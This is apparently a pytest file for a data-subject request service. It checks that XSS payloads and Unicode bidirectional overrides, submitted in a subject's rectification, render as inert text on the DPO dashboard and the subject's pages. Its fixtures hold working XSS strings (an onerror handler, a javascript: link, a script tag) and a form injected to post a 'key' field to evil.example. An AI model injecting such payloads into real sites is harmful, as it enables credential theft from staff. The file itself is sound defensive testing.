"""A data subject's own text on the pages staff read (red team of 2026-12-07, red22): held.

A customer signed in to the subject API submits a rectification whose field names and reason are
HTML and script (each sets ``window.owned`` if it runs), and a `javascript:` link. The run fails
and its reason quotes the field. The DPO opens the request's page in the dashboard, in Chromium, over
real HTTP from `garde serve` (a real worker on PostgreSQL): the text is shown as written, no element
of it exists, nothing of it runs (the page's CSP would refuse an inline handler anyway; the escaping is
what is tested: an injected form or link needs no script). The requests list, the subject's own
request in the API and their next access answer (its steps quote the failure) show it as text too.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import httpx
import pytest
from selectolax.lexbor import LexborHTMLParser

from tests.web_support import csrf_of, mailed_code_to, mails_to

pytestmark = pytest.mark.xdist_group("browser")

FIELD = '"><img src=x onerror="window.owned=1"><a href="javascript:window.owned=2">go</a>'
REASON = "</textarea><script>window.owned=3</script><form action=https://evil.example/><input name=key>"


def _subject(served: Any, email: str) -> tuple[httpx.Client, dict[str, str]]:
    client = httpx.Client(base_url=served.url, timeout=60)
    before = len(mails_to(served.outbox, email))
    started = client.post("/api/v1/me/session", json={"email": email})
    assert started.status_code == 202, started.text
    code = mailed_code_to(served.outbox, email, before)
    confirmed = client.post("/api/v1/me/session/confirm", json={"session": started.json()["session"],
                                                                "code": code})
    assert confirmed.status_code == 200, confirmed.text
    return client, {"Authorization": f"Bearer {confirmed.json()['token']}"}


def _no_element_of_theirs(html: str) -> None:
    tree = LexborHTMLParser(html)
    assert tree.css("img, script, form[action^='https://evil'], input[name=key]") == []
    links = [node.attributes["href"] or "" for node in tree.css("[href]")]
    assert not [link for link in links if link.startswith("javascript")]
    assert not [node for node in tree.css("*") if any(name.startswith("on") for name in node.attributes)]


@contextmanager
def _dpo(served: Any) -> Iterator[httpx.Client]:
    """A client logged in to the dashboard with the DPO's key."""
    with httpx.Client(base_url=served.url, timeout=60) as dpo:
        login = dpo.get("/dpo/login")
        assert dpo.post("/dpo/login", data={"csrf": csrf_of(login.text), "key": served.keys["dpo"]}
                        ).status_code == 303
        yield dpo


def test_a_subjects_markup_is_text_on_every_page_staff_and_the_subject_read(served_module: Any,
                                                                            browser: Any) -> None:
    served = served_module
    email = served.customers[17]
    client, session = _subject(served, email)
    try:
        submitted = client.post("/api/v1/me/requests", headers=session, json={
            "type": "rectification", "details": {"corrections": {FIELD: "x"}, "reason": REASON}})
        assert submitted.status_code == 201, submitted.text
        request_id = submitted.json()["id"]
        with served.client("agent") as staff:
            served.run(staff, request_id)
            assert staff.get(f"/requests/{request_id}").json()["status"] == "failed"
        mine = client.get(f"/api/v1/me/requests/{request_id}", headers=session)
        assert mine.status_code == 200 and mine.headers["content-type"] == "application/json"
        # their access answer lists that request with its steps: the failure's note quotes the field
        access = client.post("/api/v1/me/requests", headers=session, json={"type": "access"}).json()["id"]
        with served.client("agent") as staff:
            assert served.run(staff, access).json()["status"] == "completed"
        report = client.get(f"/api/v1/me/requests/{access}/files/access.html", headers=session)
        assert report.status_code == 200 and "sandbox" in report.headers["content-security-policy"]
        assert FIELD in LexborHTMLParser(report.text).body.text()  # type: ignore[union-attr]
        _no_element_of_theirs(report.text)
    finally:
        client.close()

    with _dpo(served) as dpo:
        page = dpo.get(f"/dpo/requests/{request_id}")
        assert page.status_code == 200 and FIELD in LexborHTMLParser(page.text).body.text()  # type: ignore[union-attr]
        _no_element_of_theirs(page.text)
        _no_element_of_theirs(dpo.get("/dpo/requests").text)

    tab = browser.new_page()
    try:
        tab.goto(f"{served.url}/dpo/login")
        tab.fill("#key", served.keys["dpo"])
        tab.click("button[type=submit]")
        tab.wait_for_url("**/dpo/")
        tab.goto(f"{served.url}/dpo/requests/{request_id}")
        assert tab.get_by_text(FIELD, exact=False).count() >= 1
        assert tab.evaluate("() => window.owned === undefined && document.images.length === 0")
        assert tab.evaluate("() => [...document.querySelectorAll('form')].every(f => "
                            "f.action.startsWith(location.origin))")
    finally:
        tab.close()


# A value that reads as another: U+202E shows what follows reversed, and, left open, reorders the words
# after it; U+2066 opens an isolate it never closes; U+200B hides inside an address.
REVERSED = "x\u202e€ 05.21\u2066 ana@ex\u200bample.org"


def _isolated(html: str) -> list[str]:
    """The text of every node holding :data:`REVERSED` outside a ``<bdi>`` of its own (none expected),
    and fails unless one such value is there."""
    tree = LexborHTMLParser(html)
    assert tree.body is not None
    holding = [node for node in tree.body.traverse(include_text=True)
               if node.tag == "-text" and "\u202e" in (node.text_content or "")]
    assert holding, "the value is on the page"
    return [node.text_content or "" for node in holding if node.parent is None or node.parent.tag != "bdi"]


def test_a_value_holding_bidirectional_controls_is_isolated_on_every_page(served_module: Any) -> None:
    """Before: the failure's note quoting a subject's field name sat in the steps' text beside the date
    and status, in the access report and on the dashboard, and a rejection's reason in the privacy
    center, so an override in it reordered what followed. Now each such value is its own ``<bdi>``
    (its text unchanged)."""
    served = served_module
    email = served.customers[18]
    client, session = _subject(served, email)
    try:
        submitted = client.post("/api/v1/me/requests", headers=session, json={
            "type": "rectification", "details": {"corrections": {REVERSED: "x"}}})
        assert submitted.status_code == 201, submitted.text
        failing = submitted.json()["id"]
        with served.client("agent") as staff:
            served.run(staff, failing)  # a 400 on SQLite (run inline), a failed job on PostgreSQL
            assert staff.get(f"/requests/{failing}").json()["status"] == "failed"
        access = client.post("/api/v1/me/requests", headers=session, json={"type": "access"}).json()["id"]
        with served.client("agent") as staff:
            assert served.run(staff, access).json()["status"] == "completed"
        report = client.get(f"/api/v1/me/requests/{access}/files/access.html", headers=session)
        assert report.status_code == 200
        assert _isolated(report.text) == []
    finally:
        client.close()

    with _dpo(served) as dpo:
        assert _isolated(dpo.get(f"/dpo/requests/{failing}").text) == []

    with httpx.Client(base_url=served.url, timeout=60) as ana:
        home = ana.get("/privacy/")
        before = len(mails_to(served.outbox, email))
        ana.post("/privacy/", data={"csrf": csrf_of(home.text), "email": email})
        form = ana.get("/privacy/code")
        assert ana.post("/privacy/code", data={"csrf": csrf_of(form.text), "code": mailed_code_to(
            served.outbox, email, before)}).status_code == 303
        with served.client("agent") as staff:
            rejected = staff.post(f"/requests/{failing}/reject", json={"reason": REVERSED})
            assert rejected.status_code == 200, rejected.text
        assert _isolated(ana.get(f"/privacy/me/requests/{failing}").text) == []
